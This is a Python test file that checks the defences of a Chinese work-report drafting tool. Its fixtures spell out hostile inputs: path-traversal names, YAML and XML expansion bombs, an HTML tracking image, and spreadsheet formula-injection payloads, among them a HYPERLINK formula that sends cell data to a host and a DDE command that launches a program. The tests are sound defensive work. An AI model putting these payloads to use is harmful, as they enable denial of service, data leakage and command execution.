"""Hostile cases that once got through: writes outside the workspace, half answers saved, fact changes
lost, files that freeze everyone, things fetched from outside the machine."""

import shutil
import subprocess
import sys
import threading
import time
from pathlib import Path

import docx
import pytest
from typer.testing import CliRunner

from chat_server import ChatServer, Cut, Text, scripted
from conftest import FACTS
from drafter import cli
from drafter.config import Settings
from drafter.drafting import export
from drafter.errors import DrafterError
from drafter.llm import chat_model
from drafter.session import ConflictError, Desk, SessionError
from ui_helpers import Watched

ORG = "示例县科学技术局"


def run(*args, env: dict):
    """The CLI in process, with its exit code and both streams."""
    return CliRunner().invoke(cli.app, [*args], env=env, catch_exceptions=False)


def files_under(folder: Path) -> set[Path]:
    return {p for p in folder.rglob("*") if p.is_file()} if folder.exists() else set()


# ---- 1. a bureau's name never becomes a path --------------------------------------------------------

@pytest.mark.parametrize("org", ["/tmp/elsewhere/示例县科学技术局", "../../../../elsewhere/示例县科学技术局",
                                 "示例县\\..\\科学技术局", "示例县\x00科学技术局"])
def test_a_bureau_name_holding_a_path_is_refused_when_a_draft_is_made(sampled, org):
    with pytest.raises(SessionError, match="单位名称"):
        Desk(sampled, offline_model=True).create(org, 2024)


def test_exports_named_from_a_stored_title_stay_in_their_folder(sampled, tmp_path):
    desk = Desk(sampled, offline_model=True)
    # a draft stored before names were checked: its org reads as a path
    info = desk.workspace.create("旧稿", "../../outside/示例县科学技术局", 2024, "annual", "kjj_annual")
    session = desk.open(info.id)
    folder = tmp_path / "exports" / "one"
    written = [session.export_into(folder, suffix) for suffix in (".docx", ".md", ".csv", ".xlsx")]
    assert all(p.parent == folder for p in written), written
    assert files_under(tmp_path / "outside") == set() and not (tmp_path / "exports" / "outside").exists()


def test_cli_draft_with_a_path_as_org_writes_nothing_outside(sampled, tmp_path):
    facts = tmp_path / "facts.yaml"
    facts.write_text(FACTS.read_text("utf-8").replace(f"org: {ORG}", "org: ../../../../outside/示例县科学技术局"), "utf-8")
    assert "outside" in facts.read_text("utf-8")
    env = {"DRAFTER_INDEX_DIR": str(sampled.index_dir), "DRAFTER_EMBEDDING": "hash",
           "DRAFTER_WORKSPACE": str(tmp_path / "a" / "b" / "c" / "ws")}
    with pytest.raises(SessionError, match="单位名称"):
        run("draft", "--facts", str(facts), env=env)
    assert files_under(tmp_path / "outside") == set() and not (tmp_path / "a" / "outside").exists()


# ---- 12. an export is written whole or not at all ---------------------------------------------------

def test_an_export_that_dies_midway_leaves_the_previous_file_whole(sampled, tmp_path, monkeypatch):
    session = Desk(sampled, offline_model=True).quick(facts=FACTS)
    session.generate()
    good = session.export(tmp_path / "out" / "总结.docx")
    before = good.read_bytes()

    def dies(doc, path, profile):
        Path(path).write_bytes(b"PK\x03\x04 half a file")
        raise KeyboardInterrupt  # as a kill would cut it

    monkeypatch.setattr(export, "_docx", dies)
    with pytest.raises(KeyboardInterrupt):
        session.export(good)
    assert good.read_bytes() == before and docx.Document(good).paragraphs
    assert [p.name for p in good.parent.iterdir()] == ["总结.docx"]


# ---- 2. half an answer is never saved ---------------------------------------------------------------

GOOD = "全县高新技术企业总数达到300家，完成年度目标的103.4%。一是做优申报服务。组织高企申报培训300人次。二是推进重点项目。"
ROWS = [{"indicator": "高新技术企业总数", "value": 300, "unit": "家", "prior": 270, "target": 290}]


def model_desk(settings, server) -> Desk:
    settings = settings.model_copy(update={"llm_base_url": server.url, "llm_timeout": 10.0, "llm_max_retries": 0})
    return Desk(settings, model=chat_model(settings))


@pytest.mark.parametrize("reply, reason", [
    (Cut(GOOD[:16]), "中途断开"), (Cut(GOOD[:16], "length"), "长度上限"), (Cut(GOOD[:16], "content_filter"), "内容审核"),
    (Text("一是做优申报服务。" * 5600), "仍未结束")])
def test_a_cut_off_or_endless_answer_fails_the_section_and_keeps_its_text(sampled, reply, reason):
    with ChatServer(scripted(Text(GOOD), reply)) as server:
        session = model_desk(sampled, server).create(ORG, 2024)
        session.set_facts(ROWS)
        session.set_notes("enterprises", ["组织高企申报培训300人次"])
        assert session.generate(["enterprises"]).results["enterprises"].ok
        report = session.generate(["enterprises"])
        with pytest.raises(SessionError, match=reason):
            session.refine("enterprises", "润色")
        assert all(0 < r["max_tokens"] <= 8000 for r in server.requests)  # every call is bounded
    assert not report.results["enterprises"].ok and reason in report.results["enterprises"].error
    assert [v.text for v in session.history("enterprises")] == [GOOD]


def test_an_answer_far_beyond_its_length_is_a_finding(sampled):
    session = Desk(sampled, offline_model=True).create(ORG, 2024)
    session.set_facts(ROWS)
    spec = next(p.spec for p in session.planned() if p.spec.id == "enterprises")
    saved = session.edit("enterprises", "一是做优申报服务，" * (spec.length // 2))
    assert any(f.kind == "length" and str(spec.length) in f.message for f in saved.findings)
    assert not any(f.kind == "length" for f in session.edit("enterprises", GOOD).findings)


# ---- 3. no fact change is lost ----------------------------------------------------------------------

TWO = "全县高新技术企业总数达到300家，比上年净增30家。全年新增高新技术企业30家。"
TWO_ROWS = [{"indicator": "高新技术企业总数", "value": 300, "unit": "家", "prior": 270},
            {"indicator": "新增高新技术企业", "value": 30, "unit": "家"}]


def drafted(settings) -> Desk:
    desk = Desk(settings, offline_model=True)
    session = desk.create(ORG, 2024)
    session.set_facts(TWO_ROWS)
    session.edit("enterprises", TWO)
    return desk


def test_a_grid_loaded_before_anothers_change_keeps_that_change(sampled):
    from drafter.ui.review import grid_rows, rows_from_grid

    desk = drafted(sampled)
    b = desk.open(1)
    cells, loaded = grid_rows(b), b.facts_rev()  # B opens the 数据 tab
    desk.open(1).set_fact("高新技术企业总数", value=310)  # A changes the total
    new_row = next(c for c in cells if c[0] == "新增高新技术企业")
    new_row[3] = "32"  # B changes another row in the grid it loaded before
    desk.open(1).set_facts(rows_from_grid(desk.open(1), cells), "网页修改", base=loaded)
    text = desk.open(1).history("enterprises")[-1].text
    assert "310家" in text and "新增高新技术企业32家" in text, text
    total = next(c for c in cells if c[0] == "高新技术企业总数")
    total[3] = "305"  # and now the cell A changed: a conflict, nothing overwritten
    with pytest.raises(ConflictError, match="高新技术企业总数"):
        desk.open(1).set_facts(rows_from_grid(desk.open(1), cells), "网页修改", base=loaded)
    assert "310家" in desk.open(1).history("enterprises")[-1].text


def test_two_fact_changes_at_once_leave_the_text_at_the_newest_value(sampled):
    desk = drafted(sampled)
    for trial in range(4):
        values = (400 + 2 * trial, 401 + 2 * trial)
        start = threading.Barrier(2)

        def change(value):
            session = Desk(sampled, offline_model=True).open(1)
            start.wait()
            session.set_fact("高新技术企业总数", value=value)

        threads = [threading.Thread(target=change, args=(v,)) for v in values]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        session = desk.open(1)
        newest = session.fact_inputs()[0]["value"]
        assert f"总数达到{newest:g}家" in session.history("enterprises")[-1].text
        assert session.ws.applied(1) == session.facts_rev()


def test_a_fact_change_cut_off_before_its_patches_is_finished_on_the_next_open(sampled):
    desk = drafted(sampled)
    rows = [dict(r) for r in desk.open(1).fact_inputs()]
    rows[0]["value"] = 333
    desk.workspace.save_facts(1, rows, "修改")  # saved, then the process was killed before patching
    assert "300家" in desk.workspace.latest(1)["enterprises"].text
    reopened = Desk(sampled, offline_model=True).open(1)
    text = reopened.history("enterprises")[-1].text
    assert "333家" in text and "净增63家" in text


# ---- 4. a small file cannot freeze everyone ---------------------------------------------------------

LAUGHS = "\n".join(["org: 示例县科学技术局", "year: 2024", 'a: &a ["哈哈", "哈哈", "哈哈", "哈哈", "哈哈", "哈哈", "哈哈", "哈哈", "哈哈"]']
                   + [f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)},"
                      f" *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]" for i in range(8)]
                   + ["facts: *i", "notes: {enterprises: *i}"]) + "\n"


@pytest.mark.parametrize("option", ["--facts", "--notes"])
def test_a_yaml_bomb_is_refused_at_once_with_its_file_and_line(sampled, tmp_path, option):
    bomb = tmp_path / "炸弹.yaml"
    bomb.write_text(LAUGHS, "utf-8")
    assert len(bomb.read_bytes()) < 1000
    args = ["--facts", str(FACTS), "--notes", str(bomb)] if option == "--notes" else ["--facts", str(bomb)]
    env = {"DRAFTER_INDEX_DIR": str(sampled.index_dir), "DRAFTER_EMBEDDING": "hash", "DRAFTER_WORKSPACE": str(tmp_path / "ws")}
    started = time.monotonic()
    with pytest.raises(DrafterError) as refused:
        run("draft", *args, env=env)
    assert time.monotonic() - started < 10
    assert "炸弹.yaml 第4行" in str(refused.value) and "别名" in str(refused.value)


def test_a_yaml_bomb_as_a_sidecar_is_reported_by_name_and_the_run_goes_on(tmp_path):
    from drafter.ingest.pipeline import ingest

    corpus = tmp_path / "corpus"
    (corpus / "a.txt").parent.mkdir()
    (corpus / "a.txt").write_text("示例县科学技术局2023年工作总结\n一、主要工作\n全年新增高新技术企业16家。", "utf-8")
    (corpus / "a.txt.meta.yaml").write_text(LAUGHS, "utf-8")
    (corpus / "b.txt").write_text("样例市科学技术局2023年工作总结\n一、主要工作\n全年新增高新技术企业9家。", "utf-8")
    settings = Settings(corpus_dir=corpus, index_dir=tmp_path / "index", embedding="hash", workspace=tmp_path / "ws")
    report = ingest(settings)
    assert [Path(p).name for p, why in report.skipped if "别名" in why] == ["a.txt"]
    assert [Path(p).name for p in report.added] == ["b.txt"]


def test_oversized_notes_and_facts_are_refused_with_the_limit(sampled, tmp_path):
    from drafter.numbers.facts import FactsError, read_facts, read_notes

    big = tmp_path / "笔记.md"
    big.write_text("# 科技企业培育\n" + "组织高企申报培训3场。\n" * 300_000, "utf-8")
    with pytest.raises(FactsError, match="笔记.md.*超过上限"):
        read_notes(big)
    long = tmp_path / "长笔记.md"
    long.write_text("# 科技企业培育\n" + "组织高企申报培训3场。\n" * 1000, "utf-8")
    with pytest.raises(FactsError, match="科技企业培育.*超过每部分"):
        read_notes(long)
    rows = tmp_path / "数据.csv"
    rows.write_text("indicator,value,unit\n" + "".join(f"指标{i},{i},家\n" for i in range(2000)), "utf-8")
    with pytest.raises(FactsError, match="超过 500 行"):
        read_facts(rows)
    session = Desk(sampled, offline_model=True).create(ORG, 2024)
    with pytest.raises(FactsError, match="超过每部分"):
        session.set_notes("enterprises", "组织高企申报培训3场。\n" * 1000)
    assert session.notes() == {}


# ---- 5. nothing is loaded from outside the machine ----------------------------------------------------

@pytest.fixture
def watched():
    server = Watched()
    yield server
    server.close()


def test_a_doc_that_is_html_is_read_without_fetching_what_it_links(tmp_path, watched):
    from drafter.ingest.corpus import extract_text

    page = (f'<html><head><link rel="stylesheet" href="{watched.url}/style.css"></head><body>'
            f'<p>一、主要工作</p><p>全年新增高新技术企业16家。</p><img src="{watched.url}/leak.png?d=secret"></body></html>')
    doc = tmp_path / "总结.doc"
    doc.write_text(page, "gbk")
    assert extract_text(doc, doc.read_bytes()).split("\n") == ["一、主要工作", "全年新增高新技术企业16家。"]
    assert watched.hits == []


def test_libreoffice_converts_in_a_sandbox_without_network(watched):
    from drafter.ingest.corpus import _without_network

    probe = f"import urllib.request; urllib.request.urlopen('{watched.url}/from-the-sandbox', timeout=3)"
    outside = subprocess.run([sys.executable, "-c", probe], capture_output=True)
    inside = subprocess.run([*_without_network(), sys.executable, "-c", probe], capture_output=True)
    assert outside.returncode == 0 and inside.returncode != 0
    assert watched.hits == ["/from-the-sandbox"]


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed (apt-get install libreoffice-writer-nogui)")
def test_a_word_97_doc_is_converted_and_read(tmp_path):
    from drafter.ingest.corpus import OLE2, extract_text

    source = tmp_path / "总结.docx"
    document = docx.Document()
    document.add_paragraph("一、主要工作")
    document.add_paragraph("全年新增高新技术企业16家。")
    document.save(source)
    subprocess.run(["soffice", f"-env:UserInstallation={(tmp_path / 'p').as_uri()}", "--headless", "--convert-to", "doc",
                    "--outdir", str(tmp_path / "doc"), str(source)], check=True, capture_output=True, timeout=120)
    doc = tmp_path / "doc" / "总结.doc"
    assert doc.read_bytes().startswith(OLE2)
    assert "全年新增高新技术企业16家。" in extract_text(doc, doc.read_bytes())


# ---- 6. nothing outside the corpus is read or written ------------------------------------------------

def test_links_out_of_the_corpus_are_skipped_and_no_sidecar_is_written_beside_their_target(tmp_path):
    from drafter.ingest.pipeline import ingest
    from drafter.session import shelf

    secret = tmp_path / "outside" / "机密.txt"
    secret.parent.mkdir()
    secret.write_text("示例县科学技术局2023年工作总结\n一、主要工作\n口令是 hunter2，全年新增高新技术企业16家。", "utf-8")
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "总结.txt").symlink_to(secret)
    (corpus / "文件夹").symlink_to(secret.parent, target_is_directory=True)
    (corpus / "真的.txt").write_text("样例市科学技术局2023年工作总结\n一、主要工作\n全年新增高新技术企业9家。", "utf-8")
    settings = Settings(corpus_dir=corpus, index_dir=tmp_path / "index", embedding="hash", workspace=tmp_path / "ws")
    report = ingest(settings)
    assert [Path(p).name for p in report.added] == ["真的.txt"]
    assert "总结.txt" in {Path(p).name for p, why in report.skipped if "语料库文件夹以外" in why}
    assert not shelf.search(settings, "口令", mode="lexical") or all("hunter2" not in h["text"] for h in shelf.search(settings, "口令", mode="lexical"))
    with pytest.raises(DrafterError, match="不在语料库文件夹"):
        shelf.set_meta(settings, str(secret), "示例县科学技术局", 2023, "annual")
    assert sorted(p.name for p in secret.parent.iterdir()) == ["机密.txt"]


# ---- 11. no live formula in an exported table ---------------------------------------------------------

def test_indicator_names_that_look_like_formulas_are_exported_as_text(sampled, tmp_path):
    from openpyxl import load_workbook

    session = Desk(sampled, offline_model=True).create(ORG, 2024)
    names = ['=HYPERLINK("http://example.com/?d="&A2,"点我")', "+cmd|' /C calc'!A0", "@SUM(A1:A2)", "-2+3"]
    session.set_facts([{"indicator": n, "value": 1, "unit": "项"} for n in names])
    book = load_workbook(session.export(tmp_path / "表.xlsx"))
    cells = [c for row in book.active.iter_rows() for c in row if isinstance(c.value, str) and c.value[:1] in "=+@-"]
    assert {c.value for c in cells} >= set(names) and all(c.data_type == "s" for c in cells)
    csv_text = session.export(tmp_path / "表.csv").read_text("utf-8-sig")
    assert all(f"'{n}" in csv_text or f"\"'{n}" in csv_text or f"'{n.replace(chr(34), chr(34) * 2)}" in csv_text for n in names)
    assert not any(line.startswith(("=", "+", "@", "-")) for line in csv_text.splitlines())


# ---- 7. sign-in: salted slow hashes, guessing locked out ---------------------------------------------

def test_users_are_added_with_salted_hashes_and_guessing_locks_the_name(tmp_path):
    from drafter.session import users as accounts

    path = tmp_path / "users.txt"
    for name in ("zhang", "li"):
        result = CliRunner().invoke(cli.app, ["users", "add", name, "--file", str(path)], input="同一个好密码123\n同一个好密码123\n")
        assert result.exit_code == 0, result.output
    stored = accounts.read_users(path)
    assert stored["zhang"].startswith("scrypt$") and stored["zhang"] != stored["li"]  # salted
    assert "同一个好密码123" not in path.read_text("utf-8") and path.stat().st_mode & 0o077 == 0
    now = [0.0]
    check = accounts.sign_in(stored, clock=lambda: now[0])
    started = time.monotonic()
    guesses = [check("zhang", f"guess{i}") for i in range(500)]
    assert not any(guesses) and not check("zhang", "同一个好密码123")  # locked: even the right one is refused
    assert time.monotonic() - started < 5  # a locked name is refused without hashing
    assert check("li", "同一个好密码123")  # another name is not locked
    now[0] += accounts.LOCKOUT_SECONDS * 2 ** 100
    assert check("zhang", "同一个好密码123")


# ---- 13. the smaller ones -------------------------------------------------------------------------------

def test_a_port_in_use_is_a_message_naming_it(sampled):
    import socket

    from drafter.errors import ConfigError
    from drafter.ui.app import serve

    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        port = busy.getsockname()[1]
        with pytest.raises(ConfigError, match=f"127.0.0.1:{port}.*--port"):
            serve(sampled, port=port)


def test_a_full_disk_is_said_as_such_not_as_a_damaged_workspace(tmp_path):
    import errno
    import sqlite3

    from drafter.stores.workspace import workspace_problem

    assert "磁盘已满" in workspace_problem(tmp_path, OSError(errno.ENOSPC, "No space left on device"))
    assert "磁盘已满" in workspace_problem(tmp_path, sqlite3.OperationalError("database or disk is full"))
    assert "移走" not in workspace_problem(tmp_path, sqlite3.OperationalError("database or disk is full"))


def test_the_same_file_uploaded_under_another_name_is_not_copied_again(tmp_path):
    from drafter.session import shelf

    corpus = tmp_path / "corpus"
    settings = Settings(corpus_dir=corpus, index_dir=tmp_path / "index", embedding="hash", workspace=tmp_path / "ws")
    text = "示例县科学技术局2023年工作总结\n一、主要工作\n全年新增高新技术企业16家。"
    first, second = tmp_path / "总结.txt", tmp_path / "总结(1).txt"
    for upload in (first, second):
        upload.write_text(text, "utf-8")
    shelf.add(settings, [first])
    shelf.add(settings, [second])
    assert [p.name for p in corpus.iterdir()] == ["总结.txt"]


def test_exports_from_the_workbench_reuse_one_folder_per_draft(sampled):
    from drafter.ui.kit import Hub

    hub = Hub(sampled)
    assert hub.export_folder(3) == hub.export_folder(3) != hub.export_folder(4)


# ---- 8. a full disk never breaks the index ----------------------------------------------------------------

def test_ingest_without_room_on_disk_is_refused_before_anything_is_written(sample_index, tmp_path, monkeypatch):
    from collections import namedtuple

    from drafter.ingest import pipeline
    from drafter.session import shelf
    from ui_helpers import copy_index

    settings = sample_index.model_copy(update={"index_dir": copy_index(sample_index.index_dir, tmp_path / "index")})
    before = {p: p.stat().st_mtime_ns for p in settings.index_dir.rglob("*") if p.is_file()}
    usage = namedtuple("usage", "total used free")
    monkeypatch.setattr(pipeline.shutil, "disk_usage", lambda path: usage(10**9, 10**9 - 400_000, 400_000))
    for rebuild in (False, True):
        with pytest.raises(DrafterError, match="磁盘只剩 0 MB.*" + ("（重建时" if rebuild else "")):
            pipeline.ingest(settings, rebuild=rebuild)
    assert {p: p.stat().st_mtime_ns for p in settings.index_dir.rglob("*") if p.is_file()} == before
    assert shelf.search(settings, "高新技术企业培育", k=3)  # still usable


def test_with_sign_in_on_cancel_and_reset_need_a_signed_in_session(sampled, tmp_path):
    import httpx

    from drafter.session.users import add_user, read_users, sign_in
    from ui_helpers import served

    users = tmp_path / "users.txt"
    add_user(users, "zhang", "一个足够长的密码")
    body = {"session_hash": "abc", "fn_index": 0, "event_id": "e1"}
    with served(sampled.model_copy(update={"llm_backend": "offline"}), auth=sign_in(read_users(users))) as url:
        with httpx.Client(base_url=url, timeout=10) as stranger:
            assert [stranger.post(f"/gradio_api/{route}", json=body).status_code for route in ("cancel", "reset")] == [401, 401]
        with httpx.Client(base_url=url, timeout=10) as writer:
            assert writer.post("/login", data={"username": "zhang", "password": "一个足够长的密码"}).status_code < 400
            assert writer.post("/gradio_api/reset", json=body).status_code == 200


def test_a_docx_whose_xml_expands_without_end_is_skipped_with_a_chinese_reason(tmp_path):
    import io
    import zipfile

    from drafter.errors import CorpusError
    from drafter.ingest.corpus import docx_to_text

    plain = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("一、主要工作")
    document.save(plain)
    entities = "".join(f'<!ENTITY l{i} "{("&l%d;" % (i - 1)) * 10 if i else "哈"}">' for i in range(8))
    bomb = (f'<?xml version="1.0"?><!DOCTYPE d [{entities}]><w:document xmlns:w="http://schemas.openxmlformats.org/'
            'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&l7;</w:t></w:r></w:p></w:body></w:document>')
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(plain.getvalue())) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            target.writestr(item, bomb if item.filename == "word/document.xml" else source.read(item.filename))
    with pytest.raises(CorpusError, match="XML 无法安全读取") as refused:
        docx_to_text(out.getvalue())
    assert not any(word in str(refused.value) for word in ("entity", "amplification", "Error"))
